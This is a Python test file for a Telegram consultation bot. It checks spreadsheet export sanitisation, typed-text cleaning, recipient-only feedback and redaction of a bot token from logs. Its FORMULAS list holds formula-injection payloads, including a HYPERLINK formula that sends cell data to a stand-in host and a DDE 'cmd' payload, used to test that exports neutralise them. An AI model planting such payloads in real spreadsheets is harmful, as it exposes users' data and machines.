"""Without Telegram: export cells, typed text at the door, feedback only from recipients, what the log may hold."""

from __future__ import annotations

import csv
import io
import json
import logging
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.logs import RedactingFormatter, UnreadableUpdates
from conversations import officers, outcomes, privacy
from conversations.export import write_csv, write_xlsx
from conversations.services import Services, begin_visit
from conversations.spreadsheet import safe_cell
from conversations.survey.engine import Accepted, Rejected
from conversations.typed_text import accepted_text
from storage.deliveries import NewDelivery
from storage.sql import is_postgres_url
from tests.offline import offline_services
from tests.test_results import EXAMPLE, FULL, NOW, respond

# OWASP's examples and the issue's: each would run as a formula in a spreadsheet.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
TOKEN = "123456:AAHsecret-part-of-the-token-0123456789"


@pytest.fixture
async def services(database_target: str) -> AsyncIterator[Services]:
    async with offline_services(database_target, NOW, EXAMPLE) as found:
        yield found


# -- 1 and 2: exports ------------------------------------------------------------------------


def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_stay_numbers() -> None:
    for formula in FORMULAS:
        assert safe_cell(formula) == "'" + formula
    assert safe_cell("Phones, always") == "Phones, always"
    assert safe_cell(-2) == -2 and safe_cell(1.5) == 1.5 and safe_cell(None) is None
    assert safe_cell("\x00=1+1\x07") == "'=1+1", "characters no workbook holds go first"


async def test_no_export_holds_a_formula_and_old_control_characters_do_not_break_it(
    services: Services, tmp_path: Path, database_target: str
) -> None:
    for i, formula in enumerate(FORMULAS):
        await respond(services, 700_000_100 + i, {**FULL, "why_hard": formula})
    # Stored before answers were cleaned at the door: written straight to the database. Only an SQLite
    # file can be that old, and only SQLite holds a NUL in text (PostgreSQL's text never does).
    null = " null" if is_postgres_url(database_target) else " null\x00"
    await respond(services, 700_000_200, {**FULL, "why_hard": "Bell\x07 escape\x1b" + null + " tab\x0b end"})

    buffer = io.StringIO()
    assert await write_csv(services.db, "gp-opening-hours", buffer) == 9
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    column = rows[1].index("why_hard")  # the id header, under the readable one
    texts = [row[column] for row in rows[2:]]
    assert sorted(texts) == sorted(["'" + f for f in FORMULAS] + ["Bell escape null tab end"])

    path = tmp_path / "out.xlsx"
    assert await write_xlsx(services.db, "gp-opening-hours", path) == 9
    sheet = load_workbook(path)["responses"]
    cells = [cell for row in sheet.iter_rows(min_row=3) for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    # XML reads a carriage return as a newline.
    assert sorted(str(c.value) for c in cells if c.column == column + 1) == sorted(t.replace("\r", "\n") for t in texts)
    assert {type(c.value) for c in cells if c.column == rows[1].index("rating") + 1} == {int}


def test_typed_text_keeps_newlines_tabs_and_every_script_and_loses_control_characters() -> None:
    assert accepted_text("a\x00b\x07c\x1bd\x0be\x7ff\x85g") == "abcdefg"
    assert accepted_text("one\r\ntwo\rthree\n\tfour") == "one\ntwo\nthree\n\tfour"
    assert accepted_text("Cafe\u0301 ✅ 👩‍⚕️ ਸਤਿ ਸ੍ਰੀ ਅਕਾਲ ﷺ") == "Café ✅ 👩‍⚕️ ਸਤਿ ਸ੍ਰੀ ਅਕਾਲ ﷺ"
    assert accepted_text("lone \ud800 surrogate") == "lone  surrogate"
    assert accepted_text(accepted_text("x\r\n\x00y")) == accepted_text("x\r\n\x00y")


async def test_the_engine_stores_what_it_accepted_and_refuses_an_answer_of_control_characters_only(
    services: Services,
) -> None:
    from conversations.survey.engine import SurveyEngine
    from conversations.survey.loader import load_consultation_file

    loaded = load_consultation_file(EXAMPLE)
    assert loaded.consultation is not None
    engine = SurveyEngine(loaded.consultation)
    state = engine.start()
    for step in ("week", None, "1"):
        if step is None:
            toggled = engine.toggle(state, "early")
            assert isinstance(toggled, Accepted)
            done = engine.done(toggled.state)
            assert isinstance(done, Accepted)
            state = done.state
        else:
            chosen = engine.choose(state, step)
            assert isinstance(chosen, Accepted)
            state = chosen.state
    assert isinstance(engine.type_answer(state, "\x00\x07 \x1b"), Rejected)
    typed = engine.type_answer(state, " Phones\x00 always\r\n")
    assert isinstance(typed, Accepted) and typed.state.answers["why_hard"] == "Phones always"


# -- 7: feedback ---------------------------------------------------------------------------------


async def told_us_sent_to(services: Services, *chat_ids: int) -> None:
    db = services.db
    await db.outcomes.publish("gp-opening-hours", outcomes.TOLD_US, {"en": "Mornings, mostly."}, NOW, 1)
    keys = [outcomes.outcome_key(outcomes.TOLD_US, "gp-opening-hours", chat) for chat in chat_ids]
    await db.deliveries.enqueue(
        [
            NewDelivery(chat, "outcome", 20, "What you told us", dedupe_key=key)
            for chat, key in zip(chat_ids, keys, strict=True)
        ],
        NOW,
    )


async def feedback_rows(services: Services) -> list[tuple[str, str, str | None]]:
    rows = await services.db.connection.execute_fetchall(
        "SELECT consultation_id, rating, comment FROM outcome_feedback"
    )
    return [(str(r[0]), str(r[1]), r[2]) for r in rows]


async def test_feedback_only_from_people_the_outcome_was_sent_to_and_erased_with_them(services: Services) -> None:
    recipient, stranger = 700_000_301, 700_000_302
    for chat in (recipient, stranger):
        await services.db.residents.acknowledge(chat, "en", NOW, None)
    outsider = await begin_visit(services, stranger, "en")
    assert (await outcomes.rate(outsider, "gp-opening-hours", "no")).notice == "That button is out of date."
    await told_us_sent_to(services, recipient)
    for consultation in ("gp-opening-hours", "no-such-consultation"):
        reply = await outcomes.rate(await begin_visit(services, stranger, "en"), consultation, "no")
        assert reply.notice == "That button is out of date."
    await outcomes.comment(await begin_visit(services, stranger, "en"), "a comment nobody asked for")
    assert await feedback_rows(services) == []

    resident = await begin_visit(services, recipient, "en")
    assert (await outcomes.rate(resident, "gp-opening-hours", "partly")).notice is None
    await outcomes.comment(await begin_visit(services, recipient, "en"), "Evenings too")
    assert await feedback_rows(services) == [("gp-opening-hours", "partly", "Evenings too")]

    _summary, data_file = await privacy.my_data(await begin_visit(services, recipient, "en"))
    assert json.loads(data_file.content)["outcome_feedback"][0]["comment"] == "Evenings too"
    await privacy.confirm_delete(await begin_visit(services, recipient, "en"), "yes")
    assert await feedback_rows(services) == []


# -- 3 and 14: what the log may hold ---------------------------------------------------------------


def formatted(record: logging.LogRecord) -> str:
    for check in (UnreadableUpdates(),):
        if not check.filter(record):
            return ""
    return RedactingFormatter("%(levelname)s %(name)s: %(message)s", TOKEN).format(record)


def test_a_traceback_is_redacted_whatever_the_case_of_the_token() -> None:
    try:
        raise RuntimeError(f"The token `{TOKEN}` was rejected; also {TOKEN.lower()} and {TOKEN.split(':')[1]}")
    except RuntimeError:
        record = logging.LogRecord("x", logging.ERROR, __file__, 1, "failed at %s", ("startup",), sys.exc_info())
    line = formatted(record)
    assert "Traceback" in line and "<token>" in line
    assert "secret-part-of-the-token" not in line.lower()


def test_an_update_the_library_cannot_read_is_one_line_without_its_contents() -> None:
    words = "my neighbour at number 12"
    try:
        raise KeyError("date")
    except KeyError:
        info = sys.exc_info()
    webhook = logging.LogRecord(
        "telegram.ext.Updater",
        logging.CRITICAL,
        __file__,
        1,
        "Something went wrong processing the data received from Telegram. Received data was *not* processed! "
        "Received data was: %r",
        ({"message": {"text": words}},),
        info,
    )
    line = formatted(webhook)
    assert words not in line and "\n" not in line and line.startswith("WARNING")
    polling = logging.LogRecord(
        "telegram.ext.ExtBot",
        logging.CRITICAL,
        __file__,
        1,
        "Error while parsing updates! Received data was %r",
        ([{"text": words}],),
        info,
    )
    assert formatted(polling) == "", "the bot logs each update it skipped instead"


def test_an_officer_id_beyond_what_telegram_or_sqlite_holds_is_refused_kindly() -> None:
    # An id past SQLite's integers is refused before the database is asked: test_officer_screens.py.
    assert officers._user_id("9" * 400) is None
    assert officers._user_id("123456789") == 123456789
